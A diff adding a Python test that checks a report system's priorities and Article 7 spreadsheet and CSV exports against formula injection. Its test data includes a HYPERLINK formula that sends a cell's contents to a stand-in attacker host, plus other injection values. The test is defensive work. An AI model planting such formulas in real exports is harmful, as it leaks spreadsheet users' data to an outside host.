@@ -6,6 +6,7 @@ pyproj.Geod from the corner coordinates.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from pathlib import Path
@@ -30,6 +31,7 @@ from ims.domain.records import BoundaryFeature, NewHazard, NewRelease
 from ims.errors import InvalidRequest
 from ims.reports import export
 from ims.reports.article7 import ReportScope, article4, article7
+from ims.reports.cells import csv_value
 from ims.reports.progress import Weights, article4_series, marking, priorities
 from ims.reports.workplan import set_targets, workplan_report
 from tests.conftest import authorise
@@ -227,3 +229,39 @@ def test_cli_binary_formats_need_a_file_and_work_plan_import_is_all_or_nothing(
                                                               str(plan)]).output  # fmt: skip
     finally:
         get_settings.cache_clear()
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
+def test_a_formula_in_the_data_stays_text_in_every_spreadsheet(session: Session) -> None:
+    # A reference written as a formula was run by spreadsheet programs from the priorities
+    # XLSX and CSV (issue 13, item 11); names from boundaries reach the Article 7 exports.
+    load_boundaries(session, [
+        BoundaryFeature("P-A", "=1+2 Province", MultiPolygon([box(102.0, 19.0, 102.5, 20.0)])),
+    ], level=1)  # fmt: skip
+    second = box(102.2, 19.6, 102.21, 19.61)
+    record_hazards(session, [
+        NewHazard(FORMULA, HazardStatus.CHA, box(*H1), dt.date(2020, 1, 1)),
+        NewHazard("@SUM(1)", HazardStatus.SHA, second, dt.date(2020, 1, 1)),
+    ])  # fmt: skip
+    client = client_for(session)
+    book = load_workbook(io.BytesIO(client.get(
+        "/api/v1/reports/priorities", params={"format": "xlsx"}).content))  # fmt: skip
+    cells = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
+    assert FORMULA in [c.value for c in cells]
+    assert all(c.data_type != "f" for c in cells)
+    listed = client.get("/api/v1/reports/priorities", params={"format": "csv"}).text
+    rows = list(csv.reader(io.StringIO(listed)))
+    references = [row[0] for row in rows[1:]]
+    assert "'" + FORMULA in references and "'@SUM(1)" in references
+    assert not any(v.startswith(("=", "@", "+")) for row in rows for v in row)
+    article7 = client.get("/api/v1/reports/article7",
+                          params={"year": 2021, "format": "xlsx"}).content  # fmt: skip
+    sheets = load_workbook(io.BytesIO(article7))
+    assert all(c.data_type != "f" for ws in sheets.worksheets for row in ws.iter_rows()
+               for c in row)  # fmt: skip
+    table = client.get("/api/v1/reports/article7", params={"year": 2021, "format": "csv"}).text
+    assert "'=1+2 Province" in table
+    # Numbers keep their sign: a negative figure is data, not a formula.
+    assert csv_value("-12.5") == "-12.5" and csv_value("-x") == "'-x"
